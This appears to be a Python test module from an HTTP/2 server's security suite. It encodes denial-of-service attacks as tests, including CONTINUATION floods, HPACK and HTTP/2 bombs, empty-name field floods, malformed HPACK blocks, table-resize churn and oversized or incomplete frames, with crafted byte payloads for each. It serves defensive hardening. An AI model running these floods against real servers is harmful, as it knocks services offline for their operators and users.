"""HTTP/2: field blocks, tables, frames and windows that a server has to keep something for."""

from __future__ import annotations

from collections.abc import Callable, Iterable
from functools import partial
from typing import Final

from tests.attacks.attack import Attack, Breach, KiB, MiB, Patience, Victim, demand
from tests.attacks.http2_peer import Gone, Http2Peer, attacker, check_calls, check_served, named
from tests.peers import (
    DATA,
    HEADER_TABLE_SIZE,
    HEADERS,
    SETTINGS,
    Code,
    block,
    continuation,
    frame,
    headers,
    in_pieces,
    request,
    settings,
)

__all__ = ["ATTACKS"]

_STREAMS: Final = 100
_PIECE: Final = 16_384

# ":method: GET", ":scheme: http", and ":authority" and ":path" as literals that enter no table. RFC 7541 §6.1, §6.2.2
_PSEUDO: Final = b"\x82\x86\x01\x04test\x04\x05/wait"

_FIRST_ENTRY: Final = b"\xbe"
"""The newest entry of the dynamic table, which is the first behind the static one."""

_CODES: Final = (Code.ENHANCE_YOUR_CALM, Code.PROTOCOL_ERROR, Code.COMPRESSION_ERROR, Code.INTERNAL_ERROR)


def _in_frames(stream: int, fields: bytes) -> bytes:
    return in_pieces(stream, [fields[start : start + _PIECE] for start in range(0, len(fields), _PIECE)])


def continuation_flood(victim: Victim, size: int) -> None:
    """Begin a field block and never end it (VU#421644)."""
    with attacker(victim) as peer:
        peer.flood(headers(1, block([(b":method", b"GET")]), end_headers=False))
        # An endless literal, so that what comes is no complete field at any time.
        peer.flood(continuation(1, b"\x00\x7f\xff\xff\xff\x07" + bytes(size), end_headers=False))
        peer.flood(continuation(1, bytes(size), end_headers=False) * (4 * MiB // (size + 9)))
        peer.check_end(*_CODES)
    check_calls(victim, 0)


def _check_refused(peer: Http2Peer, streams: Iterable[int]) -> None:
    """Each request was answered with 431 or 400, or reset; or the connection has ended with GOAWAY."""
    try:
        for stream in streams:
            view = peer.response(stream)
            demand(
                view.status in {400, 431} or view.reset not in {None, Code.NO_ERROR},
                f"answered fields without bounds with {view.status}",
            )
    except Gone:
        peer.check_end(*_CODES)


def large_entry(victim: Victim) -> None:
    """One entry of 4,000 octets is named 16,000 times on each of many streams: 64 MB in each (CVE-2016-6581)."""
    with attacker(victim) as peer:
        entry = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4_000
        streams = range(3, 3 + 2 * _STREAMS, 2)
        peer.flood(headers(1, _PSEUDO + entry))
        peer.flood(b"".join([headers(n, _PSEUDO + _FIRST_ENTRY * 16_000) for n in streams]))
        _check_refused(peer, streams)
    check_calls(victim, 1)


def small_entries(victim: Victim) -> None:
    """Tiny fields, an octet each, on streams whose windows stay closed (CVE-2026-49975, CVE-2026-47774).

    Their size as a list is within 64 KiB: only their number is not.
    """
    with attacker(victim, window=0) as peer:
        streams = range(3, 3 + 2 * _STREAMS, 2)
        peer.flood(headers(1, _PSEUDO + b"\x40\x01x\x01y"))
        peer.flood(b"".join([headers(n, _PSEUDO + _FIRST_ENTRY * 1_500) for n in streams]))
        try:
            peer.settle()
        except Gone:
            peer.check_end(*_CODES)
    check_calls(victim, 1)


def as_many_fields_as_allowed(victim: Victim) -> None:
    """Each head stays within the limits, and all streams are held open by closed windows."""
    with attacker(victim, window=0) as peer:
        peer.flood(headers(1, _PSEUDO + b"\x40\x01x\x7f\x81\x03" + b"y" * 512))
        streams = range(3, 3 + 2 * (_STREAMS - 1), 2)
        peer.send(b"".join([headers(n, _PSEUDO + _FIRST_ENTRY * 90) for n in streams]))
        peer.settle()
    check_calls(victim, _STREAMS)


def cookie_crumbs(victim: Victim) -> None:
    """A cookie in thousands of fields, which are one for whoever counts after joining them."""
    with attacker(victim) as peer:
        streams = range(3, 3 + 2 * _STREAMS, 2)
        peer.flood(headers(1, _PSEUDO + b"\x60\x03a=b"))
        peer.flood(b"".join([headers(n, _PSEUDO + _FIRST_ENTRY * 1_500) for n in streams]))
        _check_refused(peer, streams)
    check_calls(victim, 1)


def fields_without_a_name(victim: Victim) -> None:
    """Empty names and empty values, one octet each (CVE-2019-9516)."""
    with attacker(victim) as peer:
        streams = range(3, 3 + 2 * _STREAMS, 2)
        peer.flood(headers(1, _PSEUDO + b"\x40\x00\x00"))
        peer.flood(b"".join([headers(n, _PSEUDO + _FIRST_ENTRY * 16_000) for n in streams]))
        _check_refused(peer, [1, *streams])
    check_calls(victim, 0)


def one_field_without_a_name(victim: Victim) -> None:
    """A single one is malformed too (RFC 9113 §8.2)."""
    with attacker(victim) as peer:
        for stream, field in ((1, b"\x00\x00\x00"), (3, b"\x00\x00\x01y"), (5, b"\x40\x00\x01y")):
            peer.send(headers(stream, _PSEUDO + field))
            _check_refused(peer, [stream])
        peer.skip(7)
        check_served(victim, peer)
    check_calls(victim, 0)


_BLOCKS: Final[dict[str, bytes]] = {
    "an integer without end": b"\xff" + b"\xff" * 16_000,
    "an index of nothing": b"\xff\xff\xff\xff\x07",
    "the index 0": b"\x80",
    "a string that is cut off": b"\x00\x7f\xff\xff\xff\x07x",
    "a table beyond its limit": b"\x3f\xff\xff\xff\xff\x07",
    "a table that changes behind a field": b"\x82\x20",
    "huffman code that is none": b"\x00\x84\xff\xff\xff\xff\x01y",
}


def broken_blocks(victim: Victim) -> None:
    """Field blocks that cannot be decoded: the table is lost, and the connection with it (RFC 7541 §5)."""
    for name, fields in _BLOCKS.items():
        with named(name), attacker(victim) as peer:
            peer.flood(_in_frames(1, fields))
            peer.check_end(Code.COMPRESSION_ERROR, Code.PROTOCOL_ERROR)
    check_calls(victim, 0)


def table_of_four_gigabytes(victim: Victim) -> None:
    """Allow the server's table all that there is, and make it write fields that are new each time."""
    with attacker(victim, (HEADER_TABLE_SIZE, 2**32 - 1)) as peer:
        for start in range(0, 2_000, 100):
            streams = [peer.next_id() for _ in range(100)]
            target = [b"/repeat?%d" % (start + n) for n in range(100)]
            pairs = zip(streams, target, strict=True)
            peer.send(b"".join([request(n, path=path, scheme=b"http") for n, path in pairs]))
            for stream in streams:
                peer.response(stream)
            peer.observer.streams.clear()


def tables_that_change(victim: Victim) -> None:
    """Make the server's table and one's own larger and smaller, again and again."""
    with attacker(victim) as peer:
        resizes = b"\x20\x3f\xe1\x1f" * 4_000
        for stream in range(1, 101, 2):
            peer.flood(settings(*[(HEADER_TABLE_SIZE, size) for size in (0, 2**32 - 1)] * 10))
            peer.flood(headers(stream, resizes[:16_000] + _PSEUDO))
        try:
            peer.settle()
        except Gone:
            peer.check_end(*_CODES)
    check_calls(victim, 50)


_FRAMES: Final[dict[str, tuple[int, int]]] = {
    "content": (DATA, 1),
    "fields": (HEADERS, 1),
    "settings": (SETTINGS, 0),
    "an unknown type": (0xFA, 0),
}


def enormous_frames(victim: Victim) -> None:
    """Promise sixteen megabytes, and send them: the first nine octets are enough to refuse (RFC 9113 §4.2)."""
    for name, (kind, stream) in _FRAMES.items():
        with named(name), attacker(victim) as peer:
            peer.send(request(1, b"POST", b"/wait", end_stream=False, scheme=b"http"))
            peer.settle()
            peer.send(frame(kind, 0x4, stream, length=2**24 - 1))
            peer.check_end(Code.FRAME_SIZE_ERROR, Code.PROTOCOL_ERROR, within=1.0)
            peer.flood(bytes(64 * KiB), patience=0.5)
    victim.settled()


def incomplete_frames(victim: Victim) -> None:
    """Begin the largest frame that is allowed on many connections, and send all of it but the last octet."""
    peers = []
    for _ in range(50):
        peer = Http2Peer(victim)
        peer.start()
        peer.send(request(1, b"POST", b"/wait", end_stream=False, scheme=b"http"))
        peer.send(frame(DATA, 0, 1, bytes(_PIECE - 1), length=_PIECE))
        peers.append(peer)
    if not all(peer.error is None for peer in peers):
        raise Breach("refused a frame of the size that everybody must take")
    check_served(victim)


def _attack(
    name: str, threat: str, carry_out: Callable[[Victim], None], patience: Patience | None = None
) -> Attack:
    patience = patience or Patience()
    return Attack(
        name, threat, carry_out, protocol="h2c", memory=4 * MiB, cpu=0.6, latency=1.0, patience=patience
    )


_UNTIMED: Final = Patience(head=20.0, keep_alive=20.0)
"""No timeout may end what a limit has to."""

_ENDLESS: Final = "Field blocks without end"
_LARGE: Final = "Field blocks that become large"
_BROKEN: Final = "Field blocks that break the decoder"
_TABLES: Final = "Tables of any size"
_NAMELESS: Final = "Fields without a name"
_ENORMOUS: Final = "Frames of enormous size"

ATTACKS: Final = [
    *[
        _attack(
            f"continuation-flood-of-{size}-octets", _ENDLESS, partial(continuation_flood, size=size), _UNTIMED
        )
        for size in (0, 1, 16_000)
    ],
    _attack("hpack-bomb", _LARGE, large_entry),
    _attack("http2-bomb", _LARGE, small_entries),
    _attack("fields-at-their-limit", _LARGE, as_many_fields_as_allowed),
    _attack("cookie-crumbs", _LARGE, cookie_crumbs),
    _attack("fields-without-a-name", _NAMELESS, fields_without_a_name),
    _attack("one-field-without-a-name", _NAMELESS, one_field_without_a_name),
    _attack("field-blocks-that-break", _BROKEN, broken_blocks),
    _attack("table-of-four-gigabytes", _TABLES, table_of_four_gigabytes),
    _attack("tables-that-change", _TABLES, tables_that_change),
    _attack("enormous-frames", _ENORMOUS, enormous_frames),
    _attack("frames-that-stay-incomplete", _ENORMOUS, incomplete_frames),
]
